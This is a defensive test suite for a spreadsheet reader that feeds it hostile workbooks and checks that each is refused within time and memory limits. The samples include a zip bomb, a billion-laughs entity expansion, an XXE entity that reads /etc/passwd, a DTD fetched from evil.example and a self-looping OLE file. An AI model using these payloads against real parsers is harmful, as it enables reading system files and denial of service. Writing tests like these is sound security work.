"""Hostile and broken workbooks: each is refused or handled, quickly and in little memory, with one clear sentence."""

import io
import os
import resource
import struct
import time
import zipfile

import pytest

from bridge.workbook import read_safely
from tests.forms.workbooks import HEAD, QUESTION, book, raw_book

pytestmark = pytest.mark.heavy

SECONDS, MEGABYTES = 5, 300
PLAIN = [["type", "name", "label"], ["text", "q", "名前"]]


def empty_rows(count, *, cells=3):
    """Styled rows without a word in them, as Excel leaves them behind."""
    row = '<row r="{r}" s="1" customFormat="1">' + "".join(f'<c r="{c}{{r}}" s="1"/>' for c in "ABC"[:cells]) + "</row>"
    return "".join(row.format(r=r) for r in range(3, count + 3))


def read(raw):
    """What became of it; within the limits that hold for every file."""
    begun = time.monotonic()
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    found = read_safely(raw, name="a")
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    used = after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
    assert used < SECONDS
    assert time.monotonic() - begun < 3 * SECONDS  # other tests run beside it
    ours = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # a child counts what it had before it became another
    assert after.ru_maxrss < max(MEGABYTES * 1024, ours + 1, before.ru_maxrss + 1)  # or what an earlier child had
    assert all(flaw.what.ja and flaw.what.en for flaw in found.flaws)
    return found


def refusal(raw):
    found = read(raw)
    assert found.form is None
    (flaw,) = found.flaws
    return flaw.what.ja


def test_an_honest_workbook_is_read_in_its_own_process():
    assert [question.id for question in read(book(survey=PLAIN)).form.questions] == ["q"]


def test_six_hundred_thousand_empty_styled_rows_cost_nothing():
    raw = raw_book(HEAD + QUESTION + empty_rows(600_000, cells=1))
    assert 1_000_000 < len(raw) < 5_000_000
    assert read(raw).form is not None


def test_something_far_below_empty_rows_is_not_lost_silently():
    raw = raw_book(HEAD + QUESTION + empty_rows(5_000) + QUESTION.replace('2"', '9000"'))
    found = read(raw)
    assert "空の行" in found.flaws[0].what.ja
    assert "1002行目" in found.flaws[0].place.ja


@pytest.mark.parametrize("size", [60, 2000])
def test_a_zip_bomb_is_refused_by_its_size(size):
    out = io.BytesIO(raw_book())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/media/a.png", "w", force_zip64=True) as part,
    ):
        for _ in range(size):
            part.write(bytes(1 << 20))
    assert len(out.getvalue()) < 3_000_000
    assert "大きすぎます" in refusal(out.getvalue())


def test_a_zip_that_lies_about_its_sizes_is_refused():
    raw = bytearray(raw_book(HEAD + QUESTION + empty_rows(200_000)))
    for signature, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = -1
        while (place := raw.find(signature, place + 1)) >= 0:
            raw[place + at : place + at + 4] = struct.pack("<I", 100)
    assert "壊れている" in refusal(bytes(raw))


BILLION = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefgh", "bcdefghi", strict=True)
)  # fmt: skip


@pytest.mark.parametrize(
    "sheet",
    [
        BILLION + "]><worksheet><sheetData><row><c><v>&i;</v></c></row></sheetData></worksheet>",
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>',
        '<?xml version="1.0"?><!DOCTYPE worksheet SYSTEM "http://evil.example/x.dtd"><worksheet/>',
    ],
    ids=["billion laughs", "a file of ours", "a type from elsewhere"],
)
def test_xml_that_declares_anything_is_refused(sheet):
    assert "危険な XML" in refusal(raw_book(sheet=sheet))


def test_xml_nested_without_end_is_survived():
    assert refusal(raw_book(sheet="<worksheet>" + "<a>" * 400_000))


def test_a_million_cells_in_a_row_are_refused():
    assert "大きすぎます" in refusal(raw_book("<row>" + "<c/>" * 1_600_000 + "</row>"))


def test_text_of_megabytes_is_refused():
    words = "あ" * 32_000
    rows = "".join(f'<row><c t="inlineStr"><is><t>{words}</t></is></c></row>' for _ in range(300))
    assert "大きすぎます" in refusal(raw_book(rows))


def test_macros_and_links_to_other_files_are_left_alone_and_named():
    link = '<externalLink xmlns="x"><externalBook r:id="rId1" xmlns:r="y"/></externalLink>'
    found = read(
        raw_book(xl__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0macro", xl__externalLinks__externalLink1_dot_xml=link)
    )
    assert found.form is not None
    assert {notice.what.ja for notice in found.notices} == {
        "マクロは読み込まず、実行もしません。", "ほかのファイルへのリンクは開きません。"
    }  # fmt: skip


def test_a_formula_is_what_it_was_when_the_file_was_saved():
    formula = QUESTION.replace(
        't="inlineStr"><is><t>名前</t></is>', 't="str"><f>WEBSERVICE("http://x")</f><v>お名前</v>'
    )
    found = read(raw_book(HEAD + formula))
    assert found.form.questions[0].title.ja == "お名前"
    assert "計算式" in found.notices[0].what.ja


def test_a_formula_without_a_value_is_pointed_at():
    formula = QUESTION.replace('t="inlineStr"><is><t>名前</t></is>', "><f>A1</f>")
    (flaw,) = read(raw_book(HEAD + formula)).flaws
    assert flaw.place.ja == "シート「survey」 2行目 C列"


def test_furigana_is_no_part_of_a_cell():
    cell = QUESTION.replace("<t>名前</t>", "<t>名前</t><rPh sb='0' eb='2'><t>ナマエ</t></rPh>")
    assert read(raw_book(HEAD + cell)).form.questions[0].title.ja == "名前"


@pytest.mark.parametrize("kept", [0.2, 0.5, 0.9, 0.999])
def test_a_file_that_is_cut_short_is_refused(kept):
    raw = book(survey=PLAIN)
    assert "切れています" in refusal(raw[: int(len(raw) * kept)])


@pytest.mark.parametrize(
    ("content", "word"),
    [
        (b"%PDF-1.7 ...", "PDF"),
        (b"\x89PNG\r\n\x1a\n", "PNG"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"), "パスワード"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "WordDocument".encode("utf-16-le"), "Word"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "Workbook".encode("utf-16-le"), "壊れている"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le") + os.urandom(5000), "壊れている"),
        (bytes(range(256)) * 20, "文字ではない"),
    ],
)
def test_what_is_no_workbook_is_called_what_it_is(content, word):
    assert word in refusal(content)


def endless_xls():
    """An OLE file whose one small stream has a chain of sectors that leads back into itself."""
    end, free, table = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6)
    header += bytes(10) + struct.pack("<IIIIIIII", 1, 1, 0, 4096, 2, 1, end, 0) + struct.pack("<109I", 0, *[free] * 108)

    def entry(name, kind, child, first, size):
        words = f"{name}\0".encode("utf-16-le")
        links = struct.pack("<HBBIII", len(words), kind, 1, free, free, child)
        return words.ljust(64, b"\0") + links + bytes(36) + struct.pack("<III", first, size, 0)

    chains = struct.pack("<128I", table, end, end, end, *[free] * 124)
    folder = entry("Root Entry", 5, 1, 3, 512) + entry("Workbook", 2, free, 0, 100) + entry("", 0, free, 0, 0) * 2
    small = struct.pack("<128I", 0, *[free] * 127)
    return header + chains + folder + small + bytes(512)


def test_a_file_that_never_ends_is_stopped():
    assert "時間かメモリ" in refusal(endless_xls())


def test_another_office_file_is_called_what_it_is():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    assert "Word" in refusal(out.getvalue())


def test_more_than_five_megabytes_are_not_even_read():
    assert "大きすぎます" in refusal(b"PK\x03\x04" + bytes(6_000_000))


def test_a_condition_that_would_stall_the_checker_is_refused():
    deep = "(" * 4000 + "1" + ")" * 4000
    found = read(book(survey=[["type", "name", "label", "relevant"], ["text", "q", "x", deep]]))
    assert found.form is None
    assert found.flaws[0].place.ja == "シート「survey」 2行目 D列（relevant）"


def test_a_full_form_with_ten_thousand_choices_is_read():
    rows = [["type", "name", "label"], *[[f"select_one L{n % 10}", f"q{n}", f"質問{n}"] for n in range(900)]]
    choices = [["list_name", "name", "label"], *[[f"L{n % 10}", f"c{n}", f"選択肢{n}"] for n in range(10_000)]]
    found = read(book(survey=rows, choices=choices))
    assert found.flaws == ()
    assert len(found.form.questions) == 900
